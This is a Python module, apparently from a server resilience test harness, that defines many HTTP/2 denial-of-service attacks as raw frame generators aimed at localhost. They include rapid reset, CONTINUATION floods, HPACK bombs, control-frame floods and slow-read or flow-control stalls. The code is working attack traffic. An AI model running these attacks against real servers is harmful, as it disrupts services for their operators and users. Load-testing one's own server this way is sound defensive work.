"""What each attack sends: a generator of bytes to send and of pauses in seconds; its end is silence.

A connection whose script has ended is held until the server closes it. All that repeats is encoded
once, in pieces of about 64 KiB.
"""

import functools
import os

from http2 import blocks, frames

PIECE = 64 << 10
# As many as the server allows at once; another server than ours may allow fewer.
STREAMS = int(os.environ.get("GATEHOUSE_HTTP2_STREAMS", "128"))
HUGE = frames.WINDOW_MAX
# The first block of a connection puts :authority into the table, so that a request is four bytes.
FIRST = bytes((0x82, 0x87)) + blocks.literal(4, "/canary") + blocks.literal(1, "localhost", blocks.INDEXED)
NEXT = bytes((0x82, 0x87)) + blocks.literal(4, "/canary") + blocks.index(62)
POST_FIRST = bytes((0x83, 0x87)) + blocks.literal(4, "/sink") + blocks.literal(1, "localhost", blocks.INDEXED)
POST_NEXT = bytes((0x83, 0x87)) + blocks.literal(4, "/sink") + blocks.index(62)
# One that neither needs the table nor changes it.
PLAIN = bytes((0x82, 0x87)) + blocks.literal(4, "/canary") + blocks.literal(1, "localhost")
BLOCK_16K = b"".join(blocks.literal(f"x-{at:04}", "v" * 100) for at in range(146))[:16000]


def opening(*settings):
    return frames.PREFACE + frames.settings(*settings) + frames.settings(ack=True)


class Attack:
    """`reads`: takes what the server sends. `connections`: in each of the two processes."""

    def __init__(self, plan, connections=8, reads=True, receive_buffer=0):
        self.plan, self.connections, self.reads = plan, connections, reads
        self.receive_buffer = receive_buffer


ATTACKS = {}


def attack(name, **changes):
    def keep(plan):
        ATTACKS[name] = Attack(plan, **changes)
        return plan

    return keep


def repeat(name, unit, before=b"", **changes):
    """One unit again and again."""

    def plan():
        blob = unit * max(1, PIECE // len(unit))
        yield opening() + before
        while True:
            yield blob

    ATTACKS[name] = Attack(plan, **changes)


@functools.lru_cache(maxsize=None)
def by_stream(make, count=200_000, size=32 << 20):
    """The frames of so many streams in order, or of as many as make so many bytes; in pieces."""
    pieces, now, total = [], bytearray(), 0
    for stream in range(3, 2 * count, 2):
        now += make(stream)
        if len(now) >= PIECE:
            pieces.append(bytes(now))
            total += len(now)
            now = bytearray()
            if total >= size:
                break
    return [*pieces, bytes(now)]


def streams(name, make, settings=(), **changes):
    """Something on stream after stream; a connection that survives them all is begun anew."""

    def plan():
        yield opening(*settings) + frames.headers(1, FIRST)
        yield from by_stream(make)
        # Nobody closed it: the ids are used up, so the client goes.
        raise ConnectionError("all streams used")

    ATTACKS[name] = Attack(plan, **changes)


@attack("nothing at all", connections=0)
def nothing():
    """What the canary sees where nobody attacks: the noise of the machine."""
    while True:
        yield 1.0


# Resets by the client, and resets that the client makes the server send

streams("rapid reset", lambda stream: frames.headers(stream, NEXT) + frames.rst_stream(stream))
streams("rapid reset of bodies", lambda stream: frames.headers(stream, POST_NEXT, end=False) + frames.data(stream, b"x") + frames.rst_stream(stream))


@attack("rapid reset, a moment behind the requests")
def reset_later():
    """So that what the requests cost has been spent when their resets come."""
    yield opening() + frames.headers(1, FIRST)
    for begin in range(3, 200_000, 200):
        batch = range(begin, begin + 200, 2)
        yield b"".join(frames.headers(stream, NEXT) for stream in batch)
        yield 0.003
        yield b"".join(frames.rst_stream(stream) for stream in batch)
    raise ConnectionError("all streams used")


streams("made to reset: malformed request", lambda stream: frames.headers(stream, NEXT + blocks.literal("Upper", "x")))
streams("made to reset: window overflow", lambda stream: frames.headers(stream, POST_NEXT, end=False) + frames.window_update(stream, HUGE))
streams("made to reset: WINDOW_UPDATE 0", lambda stream: frames.headers(stream, POST_NEXT, end=False) + frames.window_update(stream, 0))
streams("made to reset: DATA behind END_STREAM", lambda stream: frames.headers(stream, NEXT) + frames.data(stream, b"x"))
streams("made to reset: HEADERS behind END_STREAM", lambda stream: frames.headers(stream, NEXT) + frames.headers(stream, NEXT))
streams("made to reset: PRIORITY on itself", lambda stream: frames.headers(stream, NEXT) + frames.priority(stream, stream))
streams("made to reset: PRIORITY of 4 bytes", lambda stream: frames.headers(stream, NEXT) + frames.frame(frames.PRIORITY, 0, stream, bytes(4)))
streams("made to reset: content-length not met", lambda stream: frames.headers(stream, POST_NEXT + blocks.literal(28, "9"), end=False) + frames.data(stream, b"x", end=True))
streams("made to reset: content-length passed", lambda stream: frames.headers(stream, POST_NEXT + blocks.literal(28, "1"), end=False) + frames.data(stream, b"xyz"))
streams("streams beyond the limit", lambda stream: frames.headers(stream, POST_NEXT, end=False), settings=((4, 0),))
streams("requests as fast as can be", lambda stream: frames.headers(stream, NEXT))
repeat("RST_STREAM of one stream", frames.rst_stream(1), frames.headers(1, FIRST))

# Field blocks

repeat("CONTINUATION without end", frames.continuation(1, BLOCK_16K, False), frames.headers(1, FIRST, whole=False))
repeat("CONTINUATION without end, one field each", frames.continuation(1, blocks.literal("a", ""), False), frames.headers(1, FIRST, whole=False))
repeat("CONTINUATION without end, empty", frames.continuation(1, b"", False), frames.headers(1, FIRST, whole=False))
streams("blocks of many small CONTINUATION frames", lambda stream: frames.headers(stream, NEXT[:1], whole=False) + b"".join(frames.continuation(stream, NEXT[at : at + 1], at == len(NEXT) - 1) for at in range(1, len(NEXT))))
streams("empty HEADERS", lambda stream: frames.headers(stream, b""))
streams("HPACK bomb: one large entry, 3800 references", lambda stream: frames.headers(stream, PLAIN + (blocks.literal("x-bomb", "b" * 3900, blocks.INDEXED) if stream == 3 else b"") + blocks.index(62) * 3800))
streams("HPACK bomb: cookie crumbs", lambda stream: frames.headers(stream, PLAIN + blocks.literal("cookie", "c" * 3000, blocks.INDEXED) + blocks.index(62) * 3000))
streams("HPACK size updates, 3000 in a block", lambda stream: frames.headers(stream, (blocks.size_update(0) + blocks.size_update(4096)) * 3000 + PLAIN))
streams("HPACK entries that evict each other", lambda stream: frames.headers(stream, FIRST + b"".join(blocks.literal(f"x-{at}", "v" * 2000, blocks.INDEXED) for at in range(7))))
streams("field sections beyond the limit", lambda stream: frames.headers(stream, FIRST + BLOCK_16K, whole=False) + frames.continuation(stream, BLOCK_16K, False) + frames.continuation(stream, BLOCK_16K))

# Frames that cost the server more than the client

repeat("SETTINGS, empty", frames.settings())
repeat("SETTINGS that change the window of 100 streams", frames.settings((4, 1)) + frames.settings((4, 0)), frames.settings((4, 0)) + frames.headers(1, POST_FIRST, end=False) + b"".join(frames.headers(stream, POST_NEXT, end=False) for stream in range(3, 200, 2)))
repeat("SETTINGS of 2730 entries", frames.settings(*[(0x1000 + at, at) for at in range(2730)]))
repeat("SETTINGS that change the table", frames.settings((1, 0), (1, 65536), (1, 4096)))
repeat("ACKs of SETTINGS", frames.settings(ack=True))
repeat("PING", frames.ping())
repeat("PING, nothing read", frames.ping(), reads=False)
repeat("SETTINGS, nothing read", frames.settings(), reads=False)
repeat("ACKs of PING", frames.ping(ack=True))
repeat("PRIORITY of one stream", frames.priority(1, 3))
streams("PRIORITY of idle streams", lambda stream: frames.priority(stream, stream - 2))
streams("PRIORITY_UPDATE of idle streams", lambda stream: frames.priority_update(stream, b"u=1, i"))
repeat("PRIORITY_UPDATE, long values", frames.priority_update(1, b"u=1, x=" + b'"' + b"v" * 4000 + b'"'))
repeat("WINDOW_UPDATE of a stream", frames.window_update(1, 1), frames.headers(1, POST_FIRST, end=False))
repeat("WINDOW_UPDATE of the connection", frames.window_update(0, 1))
repeat("empty DATA", frames.data(1), frames.headers(1, POST_FIRST, end=False))
repeat("DATA of padding alone", frames.data(1, padding=0), frames.headers(1, POST_FIRST, end=False))
repeat("unknown frames, empty", frames.frame(0xB1, 0, 1))
repeat("unknown frames of 16 KiB", frames.frame(0xB1, 0, 1, bytes(16384)))
repeat("GOAWAY", frames.goaway())
repeat("GOAWAY with debug data", frames.goaway(debug=bytes(16000)))
repeat("DATA on a closed stream", frames.data(1, b"x"), frames.headers(1, POST_FIRST, end=False) + frames.rst_stream(1))


# Slow ones, and those that take nothing


def many_large(path=b"/large", count=STREAMS):
    first = bytes((0x82, 0x87)) + blocks.literal(4, path) + blocks.literal(1, "localhost", blocks.INDEXED)
    rest = bytes((0x82, 0x87)) + blocks.literal(4, path) + blocks.index(62)
    return frames.headers(1, first) + b"".join(frames.headers(stream, rest) for stream in range(3, 2 * count, 2))


@attack("zero windows, 128 answers of 10 MB each")
def zero_windows():
    yield opening((4, 0)) + frames.window_update(0, HUGE - 65535) + many_large()
    while True:
        yield 1.0


@attack("windows opened by one byte, 128 answers of 10 MB each")
def byte_windows():
    yield opening((4, 0)) + frames.window_update(0, HUGE - 65535) + many_large()
    updates = b"".join(frames.window_update(stream, 1) for stream in range(1, 2 * STREAMS, 2))
    while True:
        yield 0.5
        yield updates


@attack("windows of the connection opened by one byte")
def connection_bytes():
    yield opening((4, HUGE)) + many_large(count=100)
    while True:
        yield 0.1
        yield frames.window_update(0, 1)


@attack("slow readers: the widest windows, TCP not read", reads=False, receive_buffer=4096)
def not_read():
    yield opening((4, HUGE), (5, 2**24 - 1)) + frames.window_update(0, HUGE - 65535) + many_large(count=100)
    while True:
        yield 1.0


@attack("slow heads: CONTINUATION never finished", connections=200)
def slow_head():
    yield opening() + frames.headers(1, FIRST, whole=False)
    while True:
        yield 2.0
        yield frames.continuation(1, blocks.literal("a", "b"), False)


@attack("slow frames: one byte a second", connections=200)
def slow_frame():
    whole = opening() + frames.headers(1, FIRST, whole=False) + frames.continuation(1, BLOCK_16K)
    for at in range(len(whole)):
        yield whole[at : at + 1]
        yield 1.0


@attack("slow prefaces: nothing but TLS", connections=200)
def slow_preface():
    while True:
        yield 1.0


@attack("bodies in a trickle: 100 streams, a byte each a second", connections=32)
def trickle():
    yield opening() + frames.headers(1, POST_FIRST, end=False)
    yield b"".join(frames.headers(stream, POST_NEXT, end=False) for stream in range(3, 200, 2))
    piece = b"".join(frames.data(stream, b"x") for stream in range(1, 200, 2))
    while True:
        yield 1.0
        yield piece


@attack("bodies of one byte a frame, as fast as can be")
def byte_frames():
    yield opening() + frames.headers(1, POST_FIRST, end=False)
    # As much as any window allows that is given back; a server that closes is asked anew.
    yield frames.data(1, b"x") * 60_000
    while True:
        yield 1.0


@attack("bodies that their back end does not take", connections=16)
def stalled():
    block = bytes((0x83, 0x87)) + blocks.literal(4, "/stall") + blocks.literal(1, "localhost", blocks.INDEXED)
    again = bytes((0x83, 0x87)) + blocks.literal(4, "/stall") + blocks.index(62)
    yield opening() + frames.headers(1, block, end=False)
    yield b"".join(frames.headers(stream, again, end=False) for stream in range(3, 200, 2))
    yield b"".join(frames.data(stream, bytes(600)) for stream in range(1, 200, 2))
    while True:
        yield 1.0


@attack("connections that end within the preface", connections=16)
def cut():
    yield frames.PREFACE[:10]
    raise ConnectionError("as meant")


@attack("garbage behind the preface", connections=16)
def garbage():
    yield opening() + bytes((at * 97 + 13) & 255 for at in range(65536))
    while True:
        yield 1.0


# One or two for each kind that is asked about; the others are near to one of these, and run with `--all`.
CHIEF = {
    "rapid reset", "rapid reset of bodies", "rapid reset, a moment behind the requests",
    "made to reset: malformed request", "made to reset: window overflow", "made to reset: content-length not met",
    "streams beyond the limit", "CONTINUATION without end", "CONTINUATION without end, empty",
    "HPACK bomb: one large entry, 3800 references", "HPACK bomb: cookie crumbs", "HPACK entries that evict each other",
    "SETTINGS, empty", "SETTINGS that change the window of 100 streams", "PING", "PING, nothing read",
    "PRIORITY of one stream", "PRIORITY_UPDATE, long values", "WINDOW_UPDATE of a stream", "empty DATA",
    "zero windows, 128 answers of 10 MB each", "windows opened by one byte, 128 answers of 10 MB each",
    "slow readers: the widest windows, TCP not read", "slow heads: CONTINUATION never finished",
}  # fmt: skip
